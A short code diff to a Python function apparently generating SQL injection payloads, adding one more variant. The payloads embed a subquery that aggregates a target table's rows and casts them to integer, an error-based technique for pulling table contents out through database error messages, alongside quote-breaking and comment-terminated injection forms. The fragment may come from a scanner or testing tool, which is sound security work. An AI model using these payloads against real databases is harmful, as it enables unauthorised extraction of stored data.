@@ -98,6 +98,7 @@ def injections(tables: list[Table], victims: dict[str, str]) -> Iterator[str]:
     for table in tables[:3]:
         show = f"(select cast(string_agg(t::text, '|') as integer) from {table.sql} t where {victims[table.qualified]})"
         yield show
+        yield f"{show} = 1"
         yield f"' || {show}::text || '"
         yield f"x' or {show} = 1 --"
         yield f"1) or ({show} = 1"
